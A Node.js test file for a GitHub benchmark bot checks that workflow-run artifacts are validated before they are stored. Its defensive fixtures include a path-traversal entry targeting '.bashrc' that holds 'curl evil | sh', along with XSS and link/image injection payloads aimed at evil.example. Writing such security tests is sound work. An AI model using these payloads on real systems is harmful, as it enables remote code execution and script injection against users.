// workflow_run.completed: the run's artifact is downloaded, checked, stored and shown; an
// artifact that breaks a rule is rejected and nothing of it is stored.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { marked } from 'marked';
import {
  BASE_SHA, bot, botComments, command, HEAD_SHA, openPulls, REPOSITORY, runFolderFiles, settled, startBotOn, startDouble, workflowRunEvent, writeArtifact,
} from '../../support/bot.mjs';

const require = createRequire(import.meta.url);
const core = require('@perfgate/core');

describe('completed runs and their artifacts', () => {
  let gh;
  let running;
  let artifactsDir;
  let nextPr = 300;
  before(async () => {
    artifactsDir = mkdtempSync(path.join(os.tmpdir(), 'perfgate-bot-artifacts-'));
    const prs = Array.from({ length: 13 }, (_, i) => 300 + i);
    gh = await startDouble({ artifactsDir, prs });
    running = await startBotOn(gh, { env: { PERFGATE_MAX_ARTIFACT_BYTES: String(4 * 1024 * 1024) } });
    await openPulls(running, prs);
  });
  after(async () => {
    await running?.close();
    await gh?.close();
    rmSync(artifactsDir, { recursive: true, force: true });
  });

  const runsStored = async () => Number((await running.store.db.selectFrom('runs').select((eb) => eb.fn.countAll().as('n')).executeTakeFirst()).n);
  const sticky = (pr) => botComments(gh, pr).filter((c) => c.body.startsWith('<!-- perfgate:comment suite=quick -->')).map((c) => c.body);

  /** A dispatched /perf quick; returns its request, its run (as the API shows it) and the artifact's name. */
  async function dispatched(pr = nextPr++) {
    const { comment } = await command(gh, running, 'maintainer', '/perf quick', { pr });
    await settled(running);
    const request = await bot.requestForComment(running.store, comment.id);
    assert.equal(request.status, 'dispatched');
    const run = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${request.runId}`)).json();
    return { pr, request, run, name: 'perfgate-quick' };
  }

  async function complete(run, conclusion = 'success', options = {}) {
    gh.state.updateWorkflowRun(REPOSITORY, run.id, { status: 'completed', conclusion });
    const answer = await running.deliver('workflow_run', workflowRunEvent({ run, conclusion, ...options }));
    await settled(running);
    return answer;
  }

  it('a good run folder is stored and shown: the table in the sticky comment, the verdict in the check run', async () => {
    const { pr, request, run, name } = await dispatched();
    const files = runFolderFiles({ pr });
    writeArtifact(artifactsDir, run.id, name, files);
    const before = await runsStored();
    const answer = await complete(run);
    assert.deepEqual([answer.status, answer.text], [202, 'queued']);
    assert.equal(await runsStored(), before + 1);
    const stored = await running.store.db.selectFrom('runs').selectAll().where('run_key', '=', `${REPOSITORY}/${run.id}/1/perfgate-quick`).executeTakeFirst();
    assert.equal(Number(stored.request_id), request.id);
    const sides = await running.store.db.selectFrom('run_sides as s').innerJoin('commits as c', 'c.id', 's.commit_id').select(['s.side', 'c.sha']).where('s.run_id', '=', stored.id).orderBy('s.side').execute();
    assert.deepEqual(sides, [{ side: 'base', sha: BASE_SHA }, { side: 'head', sha: HEAD_SHA }]);

    const verdict = JSON.parse(files['verdict.json']);
    const footer = `\n_Measured for \`/perf quick\` from @maintainer; [workflow run](${run.html_url})._\n`;
    const table = core.renderComment(verdict, { reportLink: `the ${name} artifact of the [workflow run](${run.html_url})`, limit: core.GITHUB_COMMENT_LIMIT - footer.length });
    assert.deepEqual(sticky(pr), [table + footer]);
    assert.match(table, /\| point-query \|/);
    const check = gh.state.checkRuns(REPOSITORY).find((c) => c.id === request.checkRunId);
    assert.deepEqual([check.status, check.conclusion, check.output.title], ['completed', 'neutral', `perfgate quick — ${verdict.headline}`]);
    // The check run shows what the action's check run shows: the tables, and why each row that did not pass got its verdict.
    assert.match(check.output.summary, /^### ❔ perfgate quick: undecided\n/);
    assert.match(check.output.summary, /\| point-query \|/);
    assert.match(check.output.text, /^Why:\n\n- /);
    assert.equal((await bot.getRequest(running.store, request.id)).status, 'completed');

    // Delivered again: stored once, shown once.
    const calls = gh.calls.length;
    const again = await complete(run);
    assert.deepEqual([again.status, again.text], [200, 'duplicate run']);
    assert.equal(await runsStored(), before + 1);
    assert.deepEqual(gh.calls.slice(calls).filter((c) => c.identity.login === 'perfgate[bot]'), []);
  });

  it("an artifact holding '../' paths is rejected: nothing stored, the sticky comment and the check run say why", async () => {
    const { pr, request, run, name } = await dispatched();
    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles({ pr }), '../../../home/runner/.bashrc': 'curl evil | sh' });
    const before = await runsStored();
    await complete(run);
    assert.equal(await runsStored(), before);
    const why = 'its artifact was rejected: `perfgate-quick: archive path "../../../home/runner/.bashrc" leaves the extraction folder`';
    assert.deepEqual(sticky(pr), [`<!-- perfgate:comment suite=quick -->\n### 💥 perfgate quick: error\n\nThe [workflow run](${run.html_url}) of \`/perf quick\` from @maintainer (head \`${HEAD_SHA.slice(0, 12)}\`, base \`${BASE_SHA.slice(0, 12)}\`) left nothing perfgate could use: ${why}. Nothing was stored; \`/perf rerun\` measures it again.\n`]);
    const check = gh.state.checkRuns(REPOSITORY).find((c) => c.id === request.checkRunId);
    assert.deepEqual([check.conclusion, check.output.title, check.output.summary], ['failure', 'perfgate quick: error', `No verdict: ${why}.`]);
    const after = await bot.getRequest(running.store, request.id);
    assert.deepEqual([after.status, after.detail], ['failed', why]);
  });

  it('an artifact of another head than the pinned one is rejected: nothing stored', async () => {
    const { pr, run, name } = await dispatched();
    const other = 'd'.repeat(40);
    writeArtifact(artifactsDir, run.id, name, runFolderFiles({ pr, headSha: other }));
    const before = await runsStored();
    await complete(run);
    assert.equal(await runsStored(), before);
    assert.match(sticky(pr)[0], new RegExp(`its artifact was rejected: \`perfgate-quick/action-run.json: head_sha is ${other}, but the command pinned ${HEAD_SHA}\``));
  });

  it('an artifact larger than the limit is not downloaded', async () => {
    const { pr, run, name } = await dispatched();
    // Random text does not compress: the zip itself is over the 4 MiB limit.
    const noise = require('node:crypto').randomBytes(4.5 * 1024 * 1024).toString('base64');
    writeArtifact(artifactsDir, run.id, name, { ...runFolderFiles({ pr }), 'servers/base/error.log': noise });
    const downloadsBefore = gh.callsTo('actions/download-artifact').length;
    await complete(run);
    assert.equal(gh.callsTo('actions/download-artifact').length, downloadsBefore);
    assert.match(sticky(pr)[0], new RegExp(`its artifact was rejected: \`the artifact ${name} is \\d+ bytes; at most 4194304 are accepted\``));
  });

  it('a failed run without an artifact: no verdict, and the sticky comment says how it ended', async () => {
    const { pr, run, name } = await dispatched();
    await complete(run, 'failure');
    assert.match(sticky(pr)[0], new RegExp(`left nothing perfgate could use: the run ended failure \\(\`the run uploaded no run folder \\(an artifact perfgate-quick, or its shards\\)\`\\)`));
  });

  it('a run whose id GitHub did not give back is found by its run-name', async () => {
    const { pr, request, run, name } = await dispatched();
    await bot.updateRequest(running.store, request.id, { runId: null });
    writeArtifact(artifactsDir, run.id, name, runFolderFiles({ pr }));
    await complete(run);
    const after = await bot.getRequest(running.store, request.id);
    assert.deepEqual([after.status, after.runId], ['completed', run.id]);
    assert.match(sticky(pr)[0], /^<!-- perfgate:comment suite=quick -->\n### ❔ perfgate quick: undecided/);
  });

  it('a run of perf-command.yml that no command started is left alone', async () => {
    const res = await fetch(`${gh.url}/repos/${REPOSITORY}/actions/workflows/perf-command.yml/dispatches`, {
      method: 'POST', headers: { authorization: 'token ghp_adminTokenForTheDouble000000', 'content-type': 'application/json' },
      body: JSON.stringify({ ref: 'main', inputs: { 'request-id': 'by-hand' }, return_run_details: true }),
    });
    const { workflow_run_id: id } = await res.json();
    const run = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${id}`)).json();
    const calls = gh.calls.length;
    const answer = await complete(run);
    assert.equal(answer.status, 202);
    assert.deepEqual(gh.calls.slice(calls).filter((c) => c.identity.login === 'perfgate[bot]'), []);
    assert.ok(running.log.lines.includes(`warn run ${REPOSITORY}#${id}: not a workflow_dispatch of perfgate[bot] (event workflow_dispatch, actor admin, triggered by admin); ignored`));
  });

  it('a hostile verdict (mentions, links, images, HTML, a 70,000-character headline) is text in the sticky comment and the check run, within their limits', async () => {
    const { pr, request, run, name } = await dispatched();
    const hostile = '@perfgate-test/perf-team see ![x](https://evil.example/a.png) [click](https://evil.example/x) <img src=x onerror=alert(1)> `code` | cell\n# heading';
    writeArtifact(artifactsDir, run.id, name, runFolderFiles({
      pr,
      edit: (f) => {
        f['verdict.json'].headline = `${hostile} ${'A'.repeat(70_000)}`;
        f['verdict.json'].benchmarks[0].reason = `${hostile} <script>alert(1)</script>`;
      },
    }));
    await complete(run);
    assert.equal((await bot.getRequest(running.store, request.id)).status, 'completed');
    const [body] = sticky(pr);
    const check = gh.state.checkRuns(REPOSITORY).find((c) => c.id === request.checkRunId);
    assert.ok(body.length <= 65536, body.length);
    assert.ok(check.output.summary.length <= 65535 && check.output.text.length <= 65535 && check.output.title.length <= 1000);
    for (const markdown of [body, check.output.summary, check.output.text]) {
      const html = marked.parse(markdown, { gfm: true });
      assert.deepEqual([...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1]).filter((href) => href.includes('evil')), []);
      assert.doesNotMatch(html, /<img|<script|<h1/);
      // Only the bot's own footer mentions someone: who asked.
      assert.deepEqual((html.replace(/<[^>]*>/g, '').match(/@[A-Za-z0-9][\w/-]*/g) || []).filter((m) => m !== '@maintainer'), []);
    }
  });

  it("sent nothing that breaks GitHub's description", () => {
    assert.deepEqual(gh.problems().map((c) => `${c.operationId} ${c.status}: ${c.problems.join('; ')}`), []);
  });
});

describe('a bot that reports, with PERFGATE_FAIL_ON=warn', () => {
  it('completes the check run of an undecided run as failure: neutral would pass a required check', async () => {
    const artifactsDir = mkdtempSync(path.join(os.tmpdir(), 'perfgate-bot-fail-on-'));
    const gh = await startDouble({ artifactsDir, prs: [320] });
    const running = await startBotOn(gh, { env: { PERFGATE_FAIL_ON: 'warn' } });
    try {
      await openPulls(running, [320]);
      const { comment } = await command(gh, running, 'maintainer', '/perf quick', { pr: 320 });
      await settled(running);
      const request = await bot.requestForComment(running.store, comment.id);
      const run = await (await fetch(`${gh.url}/repos/${REPOSITORY}/actions/runs/${request.runId}`)).json();
      const files = runFolderFiles({ pr: 320 });
      assert.equal(JSON.parse(files['verdict.json']).verdict, 'undecided');
      writeArtifact(artifactsDir, run.id, 'perfgate-quick', files);
      gh.state.updateWorkflowRun(REPOSITORY, run.id, { status: 'completed', conclusion: 'success' });
      await running.deliver('workflow_run', workflowRunEvent({ run, conclusion: 'success' }));
      await settled(running);
      const check = gh.state.checkRuns(REPOSITORY).find((c) => c.id === request.checkRunId);
      assert.deepEqual([check.status, check.conclusion], ['completed', 'failure']);
    } finally {
      await running.close();
      await gh.close();
      rmSync(artifactsDir, { recursive: true, force: true });
    }
  });
});
